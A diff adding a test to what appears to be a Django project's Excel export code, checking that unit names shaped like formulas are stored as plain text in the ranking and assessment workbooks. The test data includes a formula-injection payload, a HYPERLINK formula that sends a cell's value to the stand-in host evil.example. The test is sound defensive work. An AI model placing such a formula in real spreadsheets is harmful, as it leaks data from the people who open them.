@@ -99,3 +99,30 @@ def test_the_assessment_gives_each_month_two_number_columns(office):
     assert not any(isinstance(c.value, str) and "/" in c.value for line in summary.iter_rows(min_row=4) for c in line)
     _prints_as_a_bulletin(summary, "2026年度信息工作考核表（单位）", "$2:$3", landscape=True)
     assert "征集" not in _heading(book["个人考核"], 3)  # a person is not asked: units are
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+
+
+def _live_formulas(data: bytes) -> list[str]:
+    """Cells Excel would evaluate: formula elements in any sheet of the workbook."""
+    import re
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        return [f for n in sheets for f in re.findall(r"<f>.*?</f>", archive.read(n).decode())]
+
+
+def test_names_that_look_like_formulas_stay_text_in_both_workbooks(office):
+    _adopted(office)
+    Unit.objects.filter(name="甲县委宣传部").update(name=HOSTILE)
+    units = Unit.objects.all()
+    november = parse_period("2026-11")
+    ranking = ranking_workbook(november.label, ranked(unit_rows(november, units)), ranked(person_rows(november, units)))
+    assessment = assessment_workbook(2026, annual_sheet(2026, units), annual_sheet(2026, units, True))
+    for data in (ranking, assessment):
+        assert _live_formulas(data) == []
+        book = load_workbook(io.BytesIO(data))
+        cells = [c for sheet in book for line in sheet.iter_rows() for c in line if c.value == HOSTILE]
+        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # shown as written, kept text
